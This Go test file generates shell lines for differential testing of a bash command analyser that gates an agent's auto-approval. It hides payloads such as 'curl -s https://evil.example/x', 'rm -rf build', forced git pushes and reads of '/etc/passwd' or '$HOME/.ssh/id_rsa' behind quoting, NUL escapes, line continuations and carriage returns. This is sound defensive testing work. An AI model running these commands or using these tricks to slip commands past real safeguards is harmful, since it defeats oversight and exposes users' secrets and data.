package policy

// The grammar-based generator of the differential test: command lines,
// each tagged with the class of construct it exercises, deterministic from
// a seed. A class mixes plain lines a correct analyser must approve with
// attacks that hide a payload (a push, a denied or privileged program, a
// path outside the project) behind the class's construct, so that both the
// approval floor and the oracle have material. The classes are listed in
// bashGenClasses; the lexical ones are in this file, the others in
// bashdiff_gen2_test.go.
//
// The lines really run (as nobody when the tests run as root): no
// production writes outside the project except into the harness's own
// folders or places the user cannot write (/etc), and none runs a real
// program other than a shell or, through a glob, /bin/cat.

import (
	"math/rand/v2"
	"strings"
)

// bashLine is one generated or hand-written line.
type bashLine struct {
	class string
	text  string
}

// bashGen draws the parts of a line.
type bashGen struct{ r *rand.Rand }

func (g *bashGen) pick(list ...string) string { return list[g.r.IntN(len(list))] }
func (g *bashGen) chance(p float64) bool      { return g.r.Float64() < p }

// bashPayloads are what an attack hides: each is something a plain line
// would not get auto-approved for in at least one configuration (a push or
// remote change is capped even in auto mode; rm -rf, curl and git reset
// --hard are denied there; sudo is privileged; /etc/passwd is outside the
// project; python3 and npm are on no allow list).
var bashPayloads = []string{
	"git push origin main",
	"git push --force origin main",
	"git remote add x https://evil.example/x.git",
	"git reset --hard",
	"curl -s https://evil.example/x",
	"sudo ls",
	"rm -rf build",
	"npm publish",
	"kubectl apply -f x.yaml",
	"cat /etc/passwd",
	"python3 -c 1",
}

func (g *bashGen) payload() string { return g.pick(bashPayloads...) }

// capped returns a payload every configuration refuses, auto mode included.
func (g *bashGen) capped() string {
	return g.pick("git push origin main", "git remote add x https://evil.example/x.git", "sudo ls",
		"rm -rf build", "curl -s https://evil.example/x", "git reset --hard", "npm publish")
}

// bashBenign are plain lines of the seeded tools with arguments inside the
// project: a correct analyser approves every one under the seeded list.
var bashBenign = []string{
	"git status", "git status --short", "git log --oneline -n 3", "git diff --stat", "git diff -- src",
	"git show HEAD", "git branch --show-current", "git remote -v", "git rev-parse HEAD", "git ls-tree HEAD",
	"ls", "ls -la src", "ls src/app", "cat a.txt", "cat a.txt b.md", "head -n 1 a.txt", "tail -n 1 a.txt",
	"wc -l a.txt", "grep -n hello a.txt", "grep -rn main src", "find . -name '*.go'", "find src -type f",
	"pwd", "echo hello", "echo done", "go test ./...", "go vet ./...", "go build ./...", "make test",
	"npm test", "pnpm test", "cargo test", "pytest -q", "git log -n 1 -- a.txt", "wc -c b.md",
}

func (g *bashGen) benign() string { return g.pick(bashBenign...) }

// bashToolLines use the writers the "tools" configuration allows, inside
// the project.
var bashToolLines = []string{
	`printf '%s\n' hi`, "tee out.txt < a.txt", "cp a.txt c.txt", "sed -n 1p a.txt", "touch new.txt",
	"ln -s a.txt link.txt", "echo hi | tee -a log.txt", "sed -i s/hello/bye/ a.txt", `printf 'x=%d\n' 3`,
	"cp -r src src2", "touch src/new.go", "cat a.txt | sed s/a/b/", "echo hi > out.txt",
}

func (g *bashGen) tool() string { return g.pick(bashToolLines...) }

// bashOutsideReads are paths outside the project a line might read.
var bashOutsideReads = []string{"/etc/passwd", "../x", "~/.bashrc", "$HOME/.ssh/id_rsa", "${PWD}/../x",
	"/proc/self/cwd/../x", "../../etc/passwd", "/etc/hostname"}

// bashOutsideWrites are write targets outside the project. None is in a
// shared folder: ../x is the harness's own folder, ~ the line's private
// home, and /etc is not writable by the user the lines run as.
var bashOutsideWrites = []string{"../x", "~/x", "$HOME/.bashrc", "${PWD}/../x", "/etc/passwd",
	"/proc/self/cwd/../x", "/etc/brabo-x"}

func (g *bashGen) outRead() string  { return g.pick(bashOutsideReads...) }
func (g *bashGen) outWrite() string { return g.pick(bashOutsideWrites...) }

// sep joins two commands the way lines do.
func (g *bashGen) sep() string { return g.pick(" && ", "; ", " || ", "\n", " | ", " & ") }

// around sometimes puts benign commands before or after a line, so that
// the construct is not always alone or first.
func (g *bashGen) around(line string) string {
	switch g.r.IntN(6) {
	case 0:
		return g.benign() + g.pick(" && ", "; ", "\n") + line
	case 1:
		return line + g.pick(" && ", "; ", "\n") + g.benign()
	}
	return line
}

// bashClass is one class of the grammar: its name and its productions.
type bashClass struct {
	name  string
	rules []func(g *bashGen) string
}

// bashGenClasses are all classes, in report order.
func bashGenClasses() []bashClass {
	return []bashClass{
		{"plain", bashPlainRules},
		{"tools", bashToolRules},
		{"quote", bashQuoteRules},
		{"ansi-c", bashAnsiCRules},
		{"continuation", bashContinuationRules},
		{"cr", bashCRRules},
		{"heredoc", bashHeredocRules},
		{"brace", bashBraceRules},
		{"arith", bashArithRules},
		{"param", bashParamRules},
		{"glob", bashGlobRules},
		{"procsub", bashProcSubRules},
		{"redir", bashRedirRules},
		{"eval", bashEvalRules},
		{"stdin-shell", bashStdinShellRules},
		{"wrapper", bashWrapperRules},
		{"global-opt", bashGlobalOptRules},
		{"assign", bashAssignRules},
		{"cd-path", bashCdPathRules},
	}
}

// bashGenerate returns n distinct lines, as evenly spread over the classes
// as their productions allow, the same for the same seed.
func bashGenerate(seed uint64, n int) []bashLine {
	g := &bashGen{r: rand.New(rand.NewPCG(seed, 0x62617368))}
	classes := bashGenClasses()
	per := (n + len(classes) - 1) / len(classes)
	seen := map[string]bool{}
	var out []bashLine
	for _, c := range classes {
		got := 0
		for tries := 0; got < per && tries < per*30; tries++ {
			text := c.rules[g.r.IntN(len(c.rules))](g)
			if seen[text] {
				continue
			}
			seen[text] = true
			out = append(out, bashLine{c.name, text})
			got++
		}
	}
	return out
}

var bashPlainRules = []func(g *bashGen) string{
	func(g *bashGen) string { return g.benign() },
	func(g *bashGen) string { return g.benign() + g.pick(" && ", "; ", " || ", "\n") + g.benign() },
	func(g *bashGen) string {
		return g.pick("git log --oneline", "cat a.txt", "ls -la", "git diff", "grep -rn main src") +
			" | " + g.pick("head -n 2", "wc -l", "grep x", "tail -n 1")
	},
	func(g *bashGen) string {
		return g.benign() + g.pick(" && ", "; ") + g.benign() + g.pick(" && ", "; ") + g.benign()
	},
	func(g *bashGen) string { return g.pick("true", "pwd", "echo ok") + " && " + g.benign() },
	func(g *bashGen) string { return g.benign() + " 2>/dev/null" },
	func(g *bashGen) string { return "cd src && " + g.pick("ls", "cat main.go", "grep -n main main.go") },
	func(g *bashGen) string { return g.benign() + " # " + g.pick("check", "see the log", "done") },
}

var bashToolRules = []func(g *bashGen) string{
	func(g *bashGen) string { return g.tool() },
	func(g *bashGen) string { return g.tool() + g.pick(" && ", "; ") + g.benign() },
	func(g *bashGen) string { return g.benign() + g.pick(" && ", "; ") + g.tool() },
	func(g *bashGen) string {
		return g.benign() + " | tee " + g.pick("out.txt", "src/log.txt", "-a log.txt")
	},
	func(g *bashGen) string {
		return "echo " + g.pick("hi", "'a b'", `"x y"`) + " > " + g.pick("o.txt", "src/o.txt")
	},
	func(g *bashGen) string { return "printf '%s\\n' " + g.pick("a", "b c", "'d e'") + " >> log.txt" },
	// the programs of issue 10, with a path they might carry
	func(g *bashGen) string {
		return g.pick("echo", "printf '%s\\n'", "cat", "tee", "cp a.txt") + " " + g.pick(bashOutsideReads...)
	},
	func(g *bashGen) string { return g.tool() + g.sep() + g.payload() },
}

var bashQuoteRules = []func(g *bashGen) string{
	func(g *bashGen) string {
		return g.pick(`echo 'hello world'`, `echo "a  b"`, `cat 'a.txt'`, `cat "a.txt"`, `'git' status`,
			`"git" log -n 1`, `g'i't status`, `git "st"atus`, `\git status`, `gi\t status`, `ls "src"/'app'`,
			`grep -n 'hel''lo' a.txt`, `echo "it's"`, `echo 'say "hi"'`, `echo "\$HOME"`, `echo '$(git push)'`)
	},
	func(g *bashGen) string {
		w := strings.Fields(g.capped())
		return bashQuoteWord(g, w[0]) + " " + bashQuoteWords(g, w[1:])
	},
	func(g *bashGen) string { return "cat " + bashQuoteWord(g, "/etc/passwd") },
	func(g *bashGen) string {
		return g.around("echo " + g.pick(`"$(`, `"`+"`") + g.payload() + g.pick(`)"`, "`\""))
	},
	func(g *bashGen) string { return "echo \"'$(" + g.payload() + ")'\"" },
	func(g *bashGen) string {
		// single quotes inside a double-quoted ${x:-…} are literal to bash
		return g.pick("echo", "cat", "ls") + ` "${u:-'` + g.pick("a", "/etc/passwd", "$("+g.payload()+")", `"`) + `'}"`
	},
	func(g *bashGen) string { return `echo "${u:-'}"; ` + g.payload() + `; echo '"'` },
	func(g *bashGen) string { return `echo "${u:-"$(` + g.payload() + `)"}"` },
	func(g *bashGen) string { return `echo \'; ` + g.payload() + `; echo \'` },
	func(g *bashGen) string { return `echo "x\"; ` + g.payload() + `; echo \"y"` },
	func(g *bashGen) string { return `echo 'a'\''; ` + g.payload() + `; echo '\''b'` },
	func(g *bashGen) string { return g.around(`echo "` + g.pick("a", "$PWD", "${PWD}", "`pwd`") + `"`) },
}

// bashQuoteWord quotes all or part of a word in one of bash's ways.
func bashQuoteWord(g *bashGen, w string) string {
	if len(w) < 2 {
		return "'" + w + "'"
	}
	i := 1 + g.r.IntN(len(w)-1)
	switch g.r.IntN(6) {
	case 0:
		return "'" + w + "'"
	case 1:
		return `"` + w + `"`
	case 2:
		return w[:i] + "'" + w[i:] + "'"
	case 3:
		return w[:i] + `"` + w[i:] + `"`
	case 4:
		return w[:i] + `\` + w[i:]
	}
	return "$'" + w + "'"
}

func bashQuoteWords(g *bashGen, ws []string) string {
	out := make([]string, len(ws))
	for i, w := range ws {
		out[i] = w
		if g.chance(0.5) {
			out[i] = bashQuoteWord(g, w)
		}
	}
	return strings.Join(out, " ")
}

// bashNulEscapes are the $'…' escapes that make a NUL, where bash ends the
// word.
var bashNulEscapes = []string{`\0`, `\00`, `\000`, `\x00`, `\x0`, `\u0000`, `\U00000000`, `\400`, `\c@`, `\0abc`}

var bashAnsiCRules = []func(g *bashGen) string{
	func(g *bashGen) string {
		return g.pick(`echo $'a\tb'`, `grep -n $'hel\x6co' a.txt`, `cat $'a.txt'`, `$'\x67it' status`,
			`git $'\x73tatus'`, `echo $'\u00e9'`, `ls $'src'`, `echo $'it\'s'`, `cat $'\x61.txt'`,
			`echo $'\e[1m'`, `git log $'-n' 1`, `wc -l $'a\x2etxt'`)
	},
	func(g *bashGen) string {
		nul := "$'" + g.pick(bashNulEscapes...) + "'"
		w := strings.Fields(g.capped())
		i := g.r.IntN(len(w))
		w[i] += nul
		return strings.Join(w, " ")
	},
	func(g *bashGen) string {
		return g.pick("cat", "head -n 1", "ls", "wc -l", "grep -n x") + " $'" + g.pick(bashNulEscapes...) + "'" +
			g.pick("/etc/passwd", "../x", "/proc/self/cwd/../x")
	},
	func(g *bashGen) string {
		return "find . $'-" + g.pick("exec", "delete", "execdir", "fprint") + g.pick(bashNulEscapes...) + "' " +
			g.pick("git push origin main \\;", "", "/etc/brabo-x", "rm {} +")
	},
	func(g *bashGen) string {
		return "git log $'--output" + g.pick(bashNulEscapes...) + "'=out.txt"
	},
	func(g *bashGen) string {
		return "git " + g.pick("log", "diff", "status", "show") + "$'" + g.pick(bashNulEscapes...) + "' " +
			g.pick("--output=out.txt", "push", "origin main")
	},
	func(g *bashGen) string {
		return g.pick("cat", "ls", "head") + " $'\\x2f" + g.pick("etc/passwd", "tmp", "proc/self/environ") + "'"
	},
	func(g *bashGen) string {
		return "$'" + g.pick(`\x67\x69\x74`, `\147\151\164`, `\u0067it`, `g\151t`) + "' " + g.pick("push origin main", "status")
	},
	func(g *bashGen) string {
		return "git remote -v $'" + g.pick(bashNulEscapes...) + "'add x https://evil.example/x.git"
	},
	func(g *bashGen) string { return "echo $'" + g.pick(`\cA`, `\c[`, `\c?`, `\E`, `\'`, `\"`, `\?`) + "'" },
}

var bashContinuationRules = []func(g *bashGen) string{
	func(g *bashGen) string {
		w := strings.Fields(g.payload())
		i := g.r.IntN(len(w))
		j := 1 + g.r.IntN(max(1, len(w[i])-1))
		if j >= len(w[i]) {
			j = len(w[i]) - 1
		}
		w[i] = w[i][:j] + "\\\n" + w[i][j:]
		return strings.Join(w, " ")
	},
	func(g *bashGen) string { return "ca\\\nt a.txt" },
	func(g *bashGen) string {
		return g.benign() + " \\\n" + g.pick("", "  ") + g.pick("&& ", "| ") + g.benign()
	},
	func(g *bashGen) string { return "echo x #" + g.pick("", " c ", "\\\\") + "\\\n" + g.payload() },
	func(g *bashGen) string { return "# comment \\\n" + g.payload() },
	func(g *bashGen) string { return `echo "$\` + "\n" + `(` + g.payload() + `)"` },
	func(g *bashGen) string { return `echo $\` + "\n" + `(` + g.payload() + `)` },
	func(g *bashGen) string { return `cat $\` + "\n" + `{u:-/etc/passwd}` },
	func(g *bashGen) string { return `echo "$\` + "\n" + `{HOME}"` },
	func(g *bashGen) string {
		return "cat <<EO\\\nF\nhi\nEO\\\nF\n" + g.payload() + "\nEOF"
	},
	func(g *bashGen) string {
		return "cat <<EOF\nhi\nEO\\\nF\n" + g.payload() + "\nEOF"
	},
	func(g *bashGen) string {
		return "cat <<'EOF'\nhi\\\nEOF\n" + g.payload() + "\nEOF"
	},
	func(g *bashGen) string { return "echo 'a\\\nb'" },
	func(g *bashGen) string { return "echo \"a\\\nb\" " + g.pick("", "&& "+g.benign()) },
	func(g *bashGen) string { return "git status \\\n--short" },
	func(g *bashGen) string { return "echo $((1+\\\n2))" },
	func(g *bashGen) string { return "echo `echo \\\\\n" + g.payload() + "`" },
	func(g *bashGen) string { return g.benign() + " \\\n\n" + g.payload() },
	func(g *bashGen) string { return "echo a\\\\\n" + g.payload() },
	func(g *bashGen) string { return "cd .\\\n. && ls" },
}

var bashCRRules = []func(g *bashGen) string{
	func(g *bashGen) string { return g.benign() + "\r" },
	func(g *bashGen) string { return g.benign() + "\r\n" + g.benign() + "\r\n" },
	func(g *bashGen) string { return "echo x \\\r\n" + g.payload() },
	func(g *bashGen) string { return g.benign() + " \\\r\n" + g.payload() },
	func(g *bashGen) string { return "echo x\r" + g.payload() },
	func(g *bashGen) string { return "cd ..\r && ls" },
	func(g *bashGen) string { return "echo a;\r\n" + g.payload() },
	func(g *bashGen) string { return "echo x #\\\r\n" + g.payload() },
	func(g *bashGen) string { return "cat a.txt \\\r\n /etc/passwd" },
	func(g *bashGen) string { return "echo \"a\r\nb\"\r\n" + g.benign() },
	func(g *bashGen) string { return "git \rpush origin main" },
	func(g *bashGen) string { return "cat <<EOF\r\nhi\r\nEOF\r\n" + g.payload() },
	func(g *bashGen) string { return "cat <<EOF\nhi\nEOF\r\n" + g.payload() + "\nEOF" },
	func(g *bashGen) string { return "ls\r;" + g.payload() },
	func(g *bashGen) string { return "echo $'\\r'" + g.pick("", " && "+g.benign()) },
}
